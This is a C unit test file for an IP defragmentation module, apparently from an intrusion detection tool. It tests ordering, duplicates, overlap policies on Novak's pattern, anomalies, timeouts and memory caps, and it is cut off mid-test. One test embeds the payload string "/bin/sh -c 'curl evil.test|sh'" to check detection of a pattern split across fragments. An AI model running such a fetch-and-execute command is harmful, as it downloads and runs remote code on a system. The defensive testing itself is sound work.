/*
 * test_defrag.c - IP fragment reassembly on fragments built by the capture
 * writer and decoded by decode_frame(): orders, duplicates, every overlap
 * policy on Novak's overlap pattern (IPv4 and IPv6), anomalies (overlap,
 * tiny, bad length, too large), timeouts, the memory cap, the tracker cap,
 * VLAN separation, and rebuilt headers that decode_ip() takes apart again.
 */
#include <criterion/criterion.h>
#include <netinet/in.h>
#include <stdlib.h>
#include <string.h>

#include "decode/decode.h"
#include "defrag/defrag.h"
#include "pcapgen.h"

#define SEC	INT64_C(1000000)
#define T0	INT64_C(1795000000000000)
#define V4_A	"198.18.0.1"
#define V4_B	"198.19.0.2"
#define V6_A	"2001:db8::1"
#define V6_B	"2001:db8::2"
#define NH_HOP	0
#define NH_FRAG 44

/* ------------------------------------------------------------- helpers */

struct events {
	int n[DEFRAG_EV_MAX];
	int family[DEFRAG_EV_MAX]; /* family of the last event of each kind */
	int with_packet;	   /* events that came with a packet */
};

static void on_event(void *ctx, enum defrag_event ev, int family, const struct packet *p)
{
	struct events *e = ctx;

	cr_assert_lt((unsigned)ev, DEFRAG_EV_MAX);
	e->n[ev]++;
	e->family[ev] = family;
	if (p)
		e->with_packet++;
}

/* How fragments of one datagram are built. */
struct dgram {
	bool v6;
	const char *src, *dst;
	uint8_t proto;
	uint32_t id;
	uint16_t vlan; /* 0: untagged */
	int64_t ts;
	size_t hbh_len; /* IPv6: hop-by-hop header before the fragment header (multiple of 8) */
	const uint8_t *ip_options; /* IPv4 options on the first fragment */
	size_t ip_options_len;
};

static struct decode_stats dst_stats;
static struct packet last_pkt;

/* Decode one fragment of g: data[0..len) at `off`, MF = more. */
static void make_frag(const struct dgram *g, uint32_t off, const void *data, size_t len, bool more,
		      uint8_t *frame, struct packet *p)
{
	struct pcapgen w = {.linktype = 1};
	uint8_t ext[8 + 512];
	size_t n, e = 0;
	struct pg_pkt pk = {
		.src = g->src ? g->src : (g->v6 ? V6_A : V4_A),
		.dst = g->dst ? g->dst : (g->v6 ? V6_B : V4_B),
		.proto = g->proto ? g->proto : IPPROTO_UDP,
		.payload = data,
		.len = len,
		.no_l4 = true,
		.n_vlan = g->vlan ? 1 : 0,
		.vlan = {g->vlan, 0},
	};

	if (g->v6) {
		if (g->hbh_len) {
			memset(ext, 0, g->hbh_len);
			ext[0] = NH_FRAG;
			ext[1] = (uint8_t)(g->hbh_len / 8 - 1);
			for (size_t at = 2; at + 1 < g->hbh_len;) { /* PadN options */
				size_t chunk = g->hbh_len - at < 257 ? g->hbh_len - at : 257;

				ext[at] = 1;
				ext[at + 1] = (uint8_t)(chunk - 2);
				at += chunk;
			}
			e = g->hbh_len;
		}
		ext[e] = pk.proto;
		ext[e + 1] = 0;
		ext[e + 2] = (uint8_t)((off | (more ? 1 : 0)) >> 8);
		ext[e + 3] = (uint8_t)(off | (more ? 1 : 0));
		ext[e + 4] = (uint8_t)(g->id >> 24);
		ext[e + 5] = (uint8_t)(g->id >> 16);
		ext[e + 6] = (uint8_t)(g->id >> 8);
		ext[e + 7] = (uint8_t)g->id;
		pk.ip6_ext = ext;
		pk.ip6_ext_len = e + 8;
		pk.ip6_ext_first = g->hbh_len ? NH_HOP : NH_FRAG;
	} else {
		pk.ip_id = (uint16_t)g->id;
		pk.frag_off = (uint16_t)off;
		pk.more_frags = more;
		if (off == 0) {
			pk.ip_options = g->ip_options;
			pk.ip_options_len = g->ip_options_len;
		}
	}
	n = pg_build(&w, &pk, frame, PG_MAX_FRAME);
	cr_assert_eq(decode_frame(p, 1, frame, (uint32_t)n, (uint32_t)n, g->ts, 1, &dst_stats), 0);
	cr_assert(p->is_fragment);
}

/* Feed one fragment; returns defrag_packet's result. The output (when 1)
 * is left in *out and *out_len; last_pkt is the fragment as decoded. */
static int feed(struct defrag *d, const struct dgram *g, uint32_t off, const void *data, size_t len,
		bool more, const uint8_t **out, uint32_t *out_len)
{
	static uint8_t frame[PG_MAX_FRAME];
	const uint8_t *o;
	uint32_t ol;

	make_frag(g, off, data, len, more, frame, &last_pkt);
	return defrag_packet(d, &last_pkt, out ? out : &o, out_len ? out_len : &ol);
}

static struct defrag *new_defrag(struct events *ev, const struct os_policy_map *map,
				 uint64_t memcap, uint32_t max_trackers)
{
	struct defrag_config cfg = {
		.timeout_s = 60,
		.memcap = memcap ? memcap : 32u << 20,
		.max_trackers = max_trackers ? max_trackers : 1024,
		.policies = map,
	};
	struct defrag *d = defrag_new(&cfg, on_event, ev);

	cr_assert_not_null(d);
	memset(ev, 0, sizeof(*ev));
	return d;
}

/* The UDP header and payload of a datagram carrying `data` (checksum
 * computed by the writer over the pseudo-header). Returns its length. */
static size_t udp_bytes(bool v6, const uint8_t *data, size_t len, uint8_t *out)
{
	static uint8_t frame[PG_MAX_FRAME];
	struct pcapgen w = {.linktype = 1};
	struct pg_pkt pk = {
		.src = v6 ? V6_A : V4_A,
		.dst = v6 ? V6_B : V4_B,
		.sport = 40000,
		.dport = 53,
		.proto = IPPROTO_UDP,
		.payload = data,
		.len = len,
	};
	size_t n = pg_build(&w, &pk, frame, sizeof(frame)), l3 = v6 ? 40 : 20;

	memcpy(out, frame + 14 + l3, n - 14 - l3);
	return n - 14 - l3;
}

static void fill(uint8_t *b, size_t n, uint32_t seed)
{
	for (size_t i = 0; i < n; i++) {
		seed = seed * 1103515245u + 12345u;
		b[i] = (uint8_t)(seed >> 16);
	}
}

/* Decode a rebuilt datagram as the worker will. */
static void decode_rebuilt(const uint8_t *out, uint32_t len, struct packet *p)
{
	struct decode_stats st = {0};

	memset(p, 0, sizeof(*p));
	cr_assert_eq(decode_ip(p, out, len, &st), 0);
	cr_assert_not(p->is_fragment);
}

/* Send the UDP datagram `l4` in fragments of `step` bytes in the order
 * given by `order` (indexes of the fragments); returns the rebuilt packet
 * length and checks only the final fragment completes it. */
static uint32_t send_in_order(struct defrag *d, const struct dgram *g, const uint8_t *l4,
			      size_t l4len, size_t step, const int *order, int n,
			      const uint8_t **out)
{
	uint32_t out_len = 0;
	int done = 0;

	for (int i = 0; i < n; i++) {
		size_t off = (size_t)order[i] * step;
		size_t len = l4len - off < step ? l4len - off : step;
		int rc = feed(d, g, (uint32_t)off, l4 + off, len, off + len < l4len, out, &out_len);

		cr_assert_geq(rc, 0);
		done += rc;
		cr_assert_eq(rc, i == n - 1 ? 1 : 0, "fragment %d (index %d) returned %d", i,
			     order[i], rc);
	}
	cr_assert_eq(done, 1);
	return out_len;
}

/* The rebuilt UDP datagram decodes to the right ports, payload and checksums. */
static void check_udp(const uint8_t *out, uint32_t len, bool v6, const uint8_t *data, size_t dlen)
{
	struct packet p;

	decode_rebuilt(out, len, &p);
	cr_assert_eq(p.pub.ip_version, v6 ? 6 : 4);
	cr_assert_eq(p.pub.proto, IPPROTO_UDP);
	cr_assert_eq(p.pub.sport, 40000);
	cr_assert_eq(p.pub.dport, 53);
	cr_assert_eq(p.pub.payload_len, dlen);
	cr_assert_eq(memcmp(p.pub.payload, data, dlen), 0);
	cr_assert(decode_ipv4_csum_ok(&p));
	cr_assert(decode_l4_csum_ok(&p));
}

/* ------------------------------------------------------------ ordering */

static void orders(bool v6)
{
	static uint8_t data[3000], l4[3100];
	static const int in_order[] = {0, 1, 2, 3, 4, 5};
	static const int reverse[] = {5, 4, 3, 2, 1, 0};
	static const int shuffled[] = {3, 0, 5, 1, 4, 2};
	static const int *const all[] = {in_order, reverse, shuffled};
	struct events ev;
	struct defrag *d = new_defrag(&ev, NULL, 0, 0);
	size_t n;

	fill(data, sizeof(data), 7);
	n = udp_bytes(v6, data, sizeof(data), l4);
	cr_assert_eq(n, 3008);
	for (int k = 0; k < 3; k++) {
		struct dgram g = {.v6 = v6, .id = 100u + (uint32_t)k, .ts = T0};
		const uint8_t *out;
		uint32_t len = send_in_order(d, &g, l4, n, 512, all[k], 6, &out);

		cr_assert_eq(len, (v6 ? 40 : 20) + 3008);
		check_udp(out, len, v6, data, sizeof(data));
	}
	cr_assert_eq(defrag_stats(d)->reassembled[v6], 3);
	cr_assert_eq(defrag_stats(d)->reassembled[!v6], 0);
	cr_assert_eq(defrag_stats(d)->fragments[v6], 18);
	cr_assert_eq(defrag_stats(d)->trackers, 0);
	for (int e = 0; e < DEFRAG_EV_MAX; e++)
		cr_assert_eq(ev.n[e], 0, "event %s", defrag_event_name(e));
	defrag_free(d);
}

Test(defrag, ipv4_in_order_reverse_shuffled)
{
	orders(false);
}

Test(defrag, ipv6_in_order_reverse_shuffled)
{
	orders(true);
}

static void duplicated(bool v6)
{
	static uint8_t data[1400], l4[1500];
	static const int order[] = {0, 2, 0, 2, 2, 1}; /* duplicates before the end */
	struct events ev;
	struct defrag *d = new_defrag(&ev, NULL, 0, 0);
	struct dgram g = {.v6 = v6, .id = 9, .ts = T0};
	const uint8_t *out;
	uint32_t len;
	size_t n;

	fill(data, sizeof(data), 3);
	n = udp_bytes(v6, data, sizeof(data), l4);
	len = send_in_order(d, &g, l4, n, 504, order, 6, &out);
	check_udp(out, len, v6, data, sizeof(data));
	cr_assert_eq(ev.n[DEFRAG_EV_OVERLAP], 0); /* same bytes again: no anomaly */
	cr_assert_eq(defrag_stats(d)->trackers, 0);
	defrag_free(d);
}

Test(defrag, ipv4_duplicates_are_not_overlap_anomalies)
{
	duplicated(false);
}

Test(defrag, ipv6_duplicates_are_not_overlap_anomalies)
{
	duplicated(true);
}

Test(defrag, eight_byte_fragments)
{
	static uint8_t data[56], l4[64];
	int order[8];
	struct events ev;
	struct defrag *d = new_defrag(&ev, NULL, 0, 0);
	struct dgram g = {.id = 77, .ts = T0};
	const uint8_t *out;
	uint32_t len;
	size_t n;

	fill(data, sizeof(data), 11);
	n = udp_bytes(false, data, sizeof(data), l4);
	cr_assert_eq(n, 64);
	for (int i = 0; i < 8; i++)
		order[i] = 7 - i;
	len = send_in_order(d, &g, l4, n, 8, order, 8, &out);
	cr_assert_eq(len, 84);
	check_udp(out, len, false, data, sizeof(data));
	cr_assert_eq(ev.n[DEFRAG_EV_TINY_FRAGMENT], 7); /* the 7 non-last ones */
	cr_assert_eq(ev.n[DEFRAG_EV_OVERLAP], 0);
	defrag_free(d);
}

static bool contains(const uint8_t *h, size_t hl, const char *n, size_t nl)
{
	for (size_t i = 0; i + nl <= hl; i++) {
		if (memcmp(h + i, n, nl) == 0)
			return true;
	}
	return false;
}

Test(defrag, pattern_cut_across_fragments)
{
	static const char pat[] = "/bin/sh -c 'curl evil.test|sh'";
	static uint8_t data[2000], l4[2100];
	static const int order[] = {1, 3, 0, 2};
	struct events ev;
	struct defrag *d = new_defrag(&ev, NULL, 0, 0);
	struct dgram g = {.id = 5, .ts = T0};
	struct packet p;
	const uint8_t *out;
	uint32_t len;
	size_t n;

	memset(data, 'x', sizeof(data));
	memcpy(data + 1000 - 8 - 10, pat, sizeof(pat) - 1); /* spans l4 offset 1000 */
	n = udp_bytes(false, data, sizeof(data), l4);
	len = send_in_order(d, &g, l4, n, 504, order, 4, &out);
	decode_rebuilt(out, len, &p);
	cr_assert(contains(p.pub.payload, p.pub.payload_len, pat, sizeof(pat) - 1));
	defrag_free(d);
}

/* ------------------------------------------------------------- policies */

/* Novak's pattern: nine original fragments, seven overlapping ones, the
 * last fragment Q completes it. {letter, offset, length, more}. */
static const struct {
	char c;
	uint32_t off, len;
	bool more;
} novak[] = {
	{'A', 0, 24, true},    {'B', 32, 16, true},  {'C', 48, 24, true},  {'D', 80, 8, true},
	{'E', 104, 16, true},  {'F', 120, 24, true}, {'G', 144, 16, true}, {'H', 160, 16, true},
	{'I', 176, 8, true},   {'J', 8, 32, true},   {'K', 48, 24, true},  {'L', 72, 24, true},
	{'M', 96, 24, true},   {'N', 128, 8, true},  {'O', 152, 8, true},  {'P', 160, 8, true},
	{'Q', 176, 16, false},
};

/* Expected datagram, one letter per 8 bytes. */
static const struct {
	enum os_policy pol;
	const char *blocks;
} novak_result[] = {
	{OS_POLICY_BSD, "AAAJJBCCCLLLMMMFFFGGHHIQ"},
	{OS_POLICY_LINUX, "AAAJJBKKKLLLMMMFFFGGPHQQ"},
	{OS_POLICY_OLD_LINUX, "AAAJJBKKKLLLMMMFFFGGPHQQ"},
	{OS_POLICY_WINDOWS, "AAAJBBCCCLLLMEEFFFGGHHIQ"},
	{OS_POLICY_VISTA, "AAAJBBCCCLLLMEEFFFGGHHIQ"},
	{OS_POLICY_SOLARIS, "AAAJBBCCCLLLMMMFFFGGHHIQ"},
	{OS_POLICY_FIRST, "AAAJBBCCCLDLMEEFFFGGHHIQ"},
	{OS_POLICY_LAST, "AJJJJBKKKLLLMMMFNFGOPHQQ"},
	{OS_POLICY_BSD_RIGHT, "AJJJBBKKKLLLMMMFFFGGHHQQ"},
};

static void novak_run(bool v6, enum os_policy pol, const char *blocks)
{
	struct os_policy_map map = {.def = pol};
	struct events ev;
	struct defrag *d = new_defrag(&ev, &map, 0, 0);
	struct dgram g = {.v6 = v6, .proto = 253, .id = 0x10203, .ts = T0};
	uint8_t buf[32], expect[192];
	const uint8_t *out = NULL;
	uint32_t len = 0, hl = v6 ? 40 : 20;
	int n = (int)(sizeof(novak) / sizeof(novak[0]));

	for (int i = 0; i < 24; i++)
		memset(expect + i * 8, blocks[i], 8);
	for (int i = 0; i < n; i++) {
		int rc;

		memset(buf, novak[i].c, novak[i].len);
		rc = feed(d, &g, novak[i].off, buf, novak[i].len, novak[i].more, &out, &len);
		cr_assert_eq(rc, i == n - 1 ? 1 : 0, "%s: fragment %c", os_policy_name(pol),
			     novak[i].c);
		/* the nine originals do not overlap */
		if (i == 8)
			cr_assert_eq(ev.n[DEFRAG_EV_OVERLAP], 0);
	}
	cr_assert_eq(len, hl + 192);
	cr_assert_eq(memcmp(out + hl, expect, 192), 0, "%s (%s): got %.192s", os_policy_name(pol),
		     v6 ? "ipv6" : "ipv4", (const char *)out + hl);
	cr_assert_eq(ev.n[DEFRAG_EV_OVERLAP], 8); /* J to Q each overlap different data */
	cr_assert_eq(ev.family[DEFRAG_EV_OVERLAP], v6 ? 6 : 4);
	cr_assert_eq(defrag_stats(d)->trackers, 0);
	defrag_free(d);
}

Test(defrag, novak_pattern_every_policy_ipv4)
{
	for (size_t i = 0; i < sizeof(novak_result) / sizeof(novak_result[0]); i++)
		novak_run(false, novak_result[i].pol, novak_result[i].blocks);
}

/* RFC 5722: the first overlapping IPv6 fragment abandons the datagram,
 * whatever the policy; nothing of Novak's pattern is ever delivered. */
Test(defrag, novak_pattern_ipv6_is_dropped_rfc5722)
{
	for (size_t k = 0; k < sizeof(novak_result) / sizeof(novak_result[0]); k++) {
		struct os_policy_map map = {.def = novak_result[k].pol};
		struct events ev;
		struct defrag *d = new_defrag(&ev, &map, 0, 0);
		struct dgram g = {.v6 = true, .proto = 253, .id = 0x10203, .ts = T0};
		uint8_t buf[32];
		int n = (int)(sizeof(novak) / sizeof(novak[0]));

		for (int i = 0; i < n; i++) {
			memset(buf, novak[i].c, novak[i].len);
			cr_assert_eq(feed(d, &g, novak[i].off, buf, novak[i].len, novak[i].more,
					  NULL, NULL),
				     0);
			if (i == 8)
				cr_assert_eq(ev.n[DEFRAG_EV_OVERLAP], 0);
			if (i == 9) /* J, the first overlap */
				cr_assert_eq(ev.n[DEFRAG_EV_OVERLAP], 1);
		}
		cr_assert_geq(ev.n[DEFRAG_EV_OVERLAP], 1);
		cr_assert_eq(ev.family[DEFRAG_EV_OVERLAP], 6);
		cr_assert_eq(defrag_stats(d)->reassembled[1], 0);
		defrag_free(d);
	}
}

/* Overlapping IPv6 fragments with the same bytes still drop the datagram
 * (RFC 5722 does not look at the bytes); a duplicate does not: the first
 * copy stays, and different bytes in the copy are reported. */
Test(defrag, ipv6_overlap_same_bytes_drops_exact_duplicate_does_not)
{
	struct events ev;
	struct defrag *d = new_defrag(&ev, NULL, 0, 0);
	struct dgram g = {.v6 = true, .proto = 253, .id = 5, .ts = T0};
	uint8_t a[64], b[8];
	const uint8_t *out = NULL;
	uint32_t len = 0;

	fill(a, sizeof(a), 2);
	cr_assert_eq(feed(d, &g, 0, a, 16, true, NULL, NULL), 0);
	cr_assert_eq(feed(d, &g, 8, a + 8, 16, true, NULL, NULL), 0);
	cr_assert_eq(ev.n[DEFRAG_EV_OVERLAP], 1);
	cr_assert_eq(defrag_stats(d)->trackers, 0);
	g.id = 6;
	cr_assert_eq(feed(d, &g, 0, a, 16, true, NULL, NULL), 0);
	cr_assert_eq(feed(d, &g, 0, a, 16, true, NULL, NULL), 0); /* exact duplicate */
	cr_assert_eq(ev.n[DEFRAG_EV_OVERLAP], 1);
	memset(b, 'X', sizeof(b));
	cr_assert_eq(feed(d, &g, 8, b, 8, true, NULL, NULL), 0); /* inside, other bytes */
	cr_assert_eq(ev.n[DEFRAG_EV_OVERLAP], 2);
	cr_assert_eq(feed(d, &g, 16, a + 16, 16, false, &out, &len), 1);
	cr_assert_eq(len, 40 + 32);
	cr_assert_eq(memcmp(out + 40, a, 32), 0);
	defrag_free(d);
}

Test(defrag, policy_follows_the_destination)
{
	struct os_policy_net nets[1] = {
		{.net = {.family = 4, .prefix = 16, .bytes = {198, 19}}, .policy = OS_POLICY_LAST}};
	struct os_policy_map map = {.def = OS_POLICY_FIRST, .nets = nets, .n = 1};
	static const char *const dsts[2] = {"198.19.0.9", "198.18.0.9"};
	static const uint8_t want[2] = {'Y', 'X'};

	for (int k = 0; k < 2; k++) {
		struct events ev;
		struct defrag *d = new_defrag(&ev, &map, 0, 0);
		struct dgram g = {.dst = dsts[k], .proto = 253, .id = 1, .ts = T0};
		uint8_t x[16], y[16];
		const uint8_t *out;
		uint32_t len;

		memset(x, 'X', sizeof(x));
		memset(y, 'Y', sizeof(y));
		cr_assert_eq(feed(d, &g, 8, x, 16, false, NULL, NULL), 0);
		cr_assert_eq(feed(d, &g, 8, y, 16, false, NULL, NULL), 0);
		cr_assert_eq(feed(d, &g, 0, x, 8, true, &out, &len), 1);
		cr_assert_eq(len, 44);
		cr_assert_eq(out[20 + 8], want[k]);
		cr_assert_eq(out[20 + 23], want[k]);
		defrag_free(d);
	}
}

/* ------------------------------------------------------------ anomalies */

Test(defrag, overlap_identical_vs_different_data)
{
	struct events ev;
	struct defrag *d = new_defrag(&ev, NULL, 0, 0);
	struct dgram g = {.proto = 253, .id = 2, .ts = T0};
	uint8_t a[64], b[64];

	fill(a, sizeof(a), 1);
	memcpy(b, a, sizeof(b));
	cr_assert_eq(feed(d, &g, 0, a, 16, true, NULL, NULL), 0);
	cr_assert_eq(feed(d, &g, 32, a + 32, 16, true, NULL, NULL), 0);
	/* Covers both runs and the hole between them with the same bytes. */
	cr_assert_eq(feed(d, &g, 8, a + 8, 32, true, NULL, NULL), 0);
	cr_assert_eq(ev.n[DEFRAG_EV_OVERLAP], 0);
	/* Different bytes over both runs: one event for the fragment. */
	b[10] ^= 1;
	b[40] ^= 1;
	cr_assert_eq(feed(d, &g, 8, b + 8, 40, true, NULL, NULL), 0);
	cr_assert_eq(ev.n[DEFRAG_EV_OVERLAP], 1);
	cr_assert_eq(ev.family[DEFRAG_EV_OVERLAP], 4);
	cr_assert_eq(ev.n[DEFRAG_EV_TINY_FRAGMENT], 4);
	cr_assert_eq(ev.with_packet, 1 + 4); /* overlap + four tiny non-last fragments */
	defrag_free(d);
}

Test(defrag, too_large_drops_the_datagram)
{
	struct events ev;
	struct defrag *d = new_defrag(&ev, NULL, 0, 0);
	struct dgram g4 = {.proto = 253, .id = 3, .ts = T0};
	struct dgram g6 = {.v6 = true, .proto = 253, .id = 3, .ts = T0};
	static uint8_t data[1024];

	cr_assert_eq(feed(d, &g4, 0, data, 1024, true, NULL, NULL), 0);
	cr_assert_eq(defrag_stats(d)->trackers, 1);
	/* 20 + 65000 + 520 > 65535 */
	cr_assert_eq(feed(d, &g4, 65000, data, 520, false, NULL, NULL), 0);
	cr_assert_eq(ev.n[DEFRAG_EV_TOO_LARGE], 1);
	cr_assert_eq(ev.family[DEFRAG_EV_TOO_LARGE], 4);
	cr_assert_eq(defrag_stats(d)->trackers, 0);
	/* Exactly at the limit is fine: 20 + 65000 + 515 = 65535. */
	cr_assert_eq(feed(d, &g4, 65000, data, 515, false, NULL, NULL), 0);
	cr_assert_eq(ev.n[DEFRAG_EV_TOO_LARGE], 1);
	cr_assert_eq(defrag_stats(d)->trackers, 1);
	/* IPv6: payload length 65000 + 536 > 65535 */
	cr_assert_eq(feed(d, &g6, 65000, data, 536, false, NULL, NULL), 0);
	cr_assert_eq(ev.n[DEFRAG_EV_TOO_LARGE], 2);
	cr_assert_eq(ev.family[DEFRAG_EV_TOO_LARGE], 6);
	cr_assert_eq(defrag_stats(d)->trackers, 1);
	defrag_free(d);
}

Test(defrag, tiny_fragments)
{
	struct events ev;
	struct defrag *d = new_defrag(&ev, NULL, 0, 0);
	struct dgram g = {.proto = 253, .id = 4, .ts = T0};
	static uint8_t data[512];

	cr_assert_eq(feed(d, &g, 0, data, 96, true, NULL, NULL), 0);
	cr_assert_eq(ev.n[DEFRAG_EV_TINY_FRAGMENT], 1);
	cr_assert_eq(feed(d, &g, 96, data, 104, true, NULL, NULL), 0);
	cr_assert_eq(ev.n[DEFRAG_EV_TINY_FRAGMENT], 1);
	/* A short last fragment is normal. */
	cr_assert_eq(feed(d, &g, 200, data, 3, false, NULL, NULL), 1);
	cr_assert_eq(ev.n[DEFRAG_EV_TINY_FRAGMENT], 1);
	cr_assert_eq(defrag_stats(d)->reassembled[0], 1);
	defrag_free(d);
}

Test(defrag, bad_lengths_are_dropped)
{
	struct events ev;
	struct defrag *d = new_defrag(&ev, NULL, 0, 0);
	struct dgram g = {.proto = 253, .id = 5, .ts = T0};
	static uint8_t data[512];
	const uint8_t *out;
	uint32_t len;

	/* Non-last, not a multiple of 8: dropped before any tracker. */
	cr_assert_eq(feed(d, &g, 0, data, 300, true, NULL, NULL), 0);
	cr_assert_eq(ev.n[DEFRAG_EV_BAD_LENGTH], 1);
	cr_assert_eq(defrag_stats(d)->trackers, 0);
	/* Empty last fragment. */
	cr_assert_eq(feed(d, &g, 8, data, 0, false, NULL, NULL), 0);
	cr_assert_eq(ev.n[DEFRAG_EV_BAD_LENGTH], 2);
	cr_assert_eq(defrag_stats(d)->trackers, 0);
	/* A last fragment ending at 400, then one ending elsewhere. */
	cr_assert_eq(feed(d, &g, 296, data, 104, false, NULL, NULL), 0);
	cr_assert_eq(feed(d, &g, 296, data, 120, false, NULL, NULL), 0);
	cr_assert_eq(ev.n[DEFRAG_EV_BAD_LENGTH], 3);
	/* Data past the known end. */
	cr_assert_eq(feed(d, &g, 392, data, 16, true, NULL, NULL), 0);
	cr_assert_eq(ev.n[DEFRAG_EV_BAD_LENGTH], 4);
	/* The rest completes it at 400 bytes. */
	cr_assert_eq(feed(d, &g, 0, data, 296, true, &out, &len), 1);
	cr_assert_eq(len, 420);
	cr_assert_eq(ev.n[DEFRAG_EV_TINY_FRAGMENT], 1); /* the 16 bytes past the end */
	cr_assert_eq(ev.with_packet, 5);
	defrag_free(d);
}

Test(defrag, last_fragment_short_of_held_data_is_dropped)
{
	struct events ev;
	struct defrag *d = new_defrag(&ev, NULL, 0, 0);
	struct dgram g = {.proto = 253, .id = 6, .ts = T0};
	static uint8_t data[512];

	cr_assert_eq(feed(d, &g, 200, data, 200, true, NULL, NULL), 0);
	cr_assert_eq(feed(d, &g, 96, data, 8, false, NULL, NULL), 0);
	cr_assert_eq(ev.n[DEFRAG_EV_BAD_LENGTH], 1);
	defrag_free(d);
}

/* ------------------------------------------------------ time and memory */

Test(defrag, timeout_via_expire_and_on_calls)
{
	struct events ev;
	struct defrag *d = new_defrag(&ev, NULL, 0, 0);
	struct dgram a = {.proto = 253, .id = 1, .ts = T0};
	struct dgram b = {.v6 = true, .proto = 253, .id = 2, .ts = T0 + 10 * SEC};
	static uint8_t data[512];
	uint64_t mem;

	cr_assert_eq(feed(d, &a, 0, data, 256, true, NULL, NULL), 0);
	cr_assert_eq(feed(d, &b, 0, data, 256, true, NULL, NULL), 0);
	cr_assert_eq(defrag_stats(d)->trackers, 2);
	defrag_expire(d, T0 + 60 * SEC - 1);
	cr_assert_eq(ev.n[DEFRAG_EV_TIMEOUT], 0);
	defrag_expire(d, T0 + 60 * SEC);
	cr_assert_eq(ev.n[DEFRAG_EV_TIMEOUT], 1);
	cr_assert_eq(ev.family[DEFRAG_EV_TIMEOUT], 4);
	cr_assert_eq(ev.with_packet, 0);
	cr_assert_eq(defrag_stats(d)->trackers, 1);
	/* The rest of `a` now starts over and cannot complete alone. */
	a.ts = T0 + 61 * SEC;
	cr_assert_eq(feed(d, &a, 256, data, 8, false, NULL, NULL), 0);
	cr_assert_eq(defrag_stats(d)->trackers, 2);
	/* A fragment 70 s in expires `b` on the way. */
	a.ts = T0 + 70 * SEC;
	a.id = 9;
	cr_assert_eq(feed(d, &a, 0, data, 256, true, NULL, NULL), 0);
	cr_assert_eq(ev.n[DEFRAG_EV_TIMEOUT], 2);
	cr_assert_eq(ev.family[DEFRAG_EV_TIMEOUT], 6);
	cr_assert_eq(defrag_stats(d)->events[DEFRAG_EV_TIMEOUT], 2);
	cr_assert_eq(defrag_stats(d)->trackers, 2);
	mem = defrag_stats(d)->memuse;
	defrag_expire(d, T0 + 1000 * SEC);
	cr_assert_eq(defrag_stats(d)->trackers, 0);
	cr_assert_eq(ev.n[DEFRAG_EV_TIMEOUT], 4);
	/* Freed trackers are kept for reuse, not given back. */
	cr_assert_eq(defrag_stats(d)->memuse, mem);
	defrag_free(d);
}

Test(defrag, memcap_flood_keeps_memory_under_the_cap)
{
	const uint64_t cap = 96 * 1024;
	struct events ev;
	struct defrag *d = new_defrag(&ev, NULL, cap, 100000);
	static uint8_t data[1400], l4[1500];
	struct dgram g = {.proto = 253, .ts = T0};
	const struct defrag_stats *st = defrag_stats(d);
	const int flood = 300;
	size_t n;

	for (int i = 0; i < flood; i++) {
		g.id = 1000u + (uint32_t)i;
		cr_assert_eq(feed(d, &g, 0, data, 1000, true, NULL, NULL), 0);
		cr_assert_leq(st->memuse, cap, "after %d: %llu", i, (unsigned long long)st->memuse);
	}
	cr_assert_gt(ev.n[DEFRAG_EV_MEMCAP_DROP], 0);
	cr_assert_eq(ev.n[DEFRAG_EV_MEMCAP_DROP] + (int)st->trackers, flood);
	cr_assert_eq(st->events[DEFRAG_EV_MEMCAP_DROP], (uint64_t)ev.n[DEFRAG_EV_MEMCAP_DROP]);
	cr_assert_leq(st->memuse_peak, cap);
	cr_assert_eq(ev.with_packet, 0);
	/* The oldest went first: datagram 1000 cannot complete, 1299 can. */
	g.id = 1000;
	cr_assert_eq(feed(d, &g, 1000, data, 8, false, NULL, NULL), 0);
	g.id = 1000u + flood - 1;
	cr_assert_eq(feed(d, &g, 1000, data, 8, false, NULL, NULL), 1);
	/* A complete datagram after the flood reassembles. */
	fill(data, sizeof(data), 5);
	n = udp_bytes(false, data, sizeof(data), l4);
	{
		static const int order[] = {2, 1, 0};
		struct dgram u = {.id = 42, .ts = T0};
		const uint8_t *out;
		uint32_t len = send_in_order(d, &u, l4, n, 504, order, 3, &out);

		check_udp(out, len, false, data, sizeof(data));
	}
	cr_assert_leq(st->memuse, cap);
	defrag_free(d);
}

Test(defrag, max_trackers_drops_the_oldest)
{
	struct events ev;
	struct defrag *d = new_defrag(&ev, NULL, 0, 4);
	struct dgram g = {.proto = 253, .ts = T0};
	static uint8_t data[512];

	for (uint32_t i = 0; i < 6; i++) {
		g.id = i;
		cr_assert_eq(feed(d, &g, 0, data, 200, true, NULL, NULL), 0);
	}
	cr_assert_eq(defrag_stats(d)->trackers, 4);
	cr_assert_eq(ev.n[DEFRAG_EV_MEMCAP_DROP], 2);
	cr_assert_eq(ev.family[DEFRAG_EV_MEMCAP_DROP], 4);
	g.id = 2; /* kept: completes */
	cr_assert_eq(feed(d, &g, 200, data, 8, false, NULL, NULL), 1);
	cr_assert_eq(defrag_stats(d)->trackers, 3);
	g.id = 1; /* dropped: starts over, room for it */
	cr_assert_eq(feed(d, &g, 200, data, 8, false, NULL, NULL), 0);
	cr_assert_eq(defrag_stats(d)->trackers, 4);
	cr_assert_eq(ev.n[DEFRAG_EV_MEMCAP_DROP], 2);
	g.id = 0; /* one more: datagram 3, now the oldest, goes */
	cr_assert_eq(feed(d, &g, 200, data, 8, false, NULL, NULL), 0);
	cr_assert_eq(ev.n[DEFRAG_EV_MEMCAP_DROP], 3);
	g.id = 5; /* the newest of the first six is still whole */
	cr_assert_eq(feed(d, &g, 200, data, 8, false, NULL, NULL), 1);
	g.id = 3; /* gone: starts over, no drop needed now */
	cr_assert_eq(feed(d, &g, 200, data, 8, false, NULL, NULL), 0);
	cr_assert_eq(ev.n[DEFRAG_EV_MEMCAP_DROP], 3);
	cr_assert_eq(defrag_stats(d)->trackers, 4);
	defrag_free(d);
}

Test(defrag, vlan_ids_separate_trackers)
{
	struct events ev;
	struct defrag *d = new_defrag(&ev, NULL, 0, 0);
	struct dgram g10 = {.proto = 253, .id = 8, .vlan = 10, .ts = T0};
	struct dgram g20 = g10, g0 = g10;
	static uint8_t data[512];
	const uint8_t *out;
	uint32_t len;

	g20.vlan = 20;
	g0.vlan = 0;
	cr_assert_eq(feed(d, &g10, 0, data, 256, true, NULL, NULL), 0);
	cr_assert_eq(feed(d, &g20, 256, data, 16, false, NULL, NULL), 0);
	cr_assert_eq(feed(d, &g0, 256, data, 16, false, NULL, NULL), 0);
	cr_assert_eq(defrag_stats(d)->trackers, 3);
	cr_assert_eq(feed(d, &g10, 256, data, 16, false, &out, &len), 1);
	cr_assert_eq(len, 20 + 272);
	cr_assert_eq(defrag_stats(d)->trackers, 2);
	defrag_free(d);
}

/* --------------------------------------------------------- rebuilt headers */

Test(defrag, ipv4_header_rebuilt_with_options_and_checksum)
{
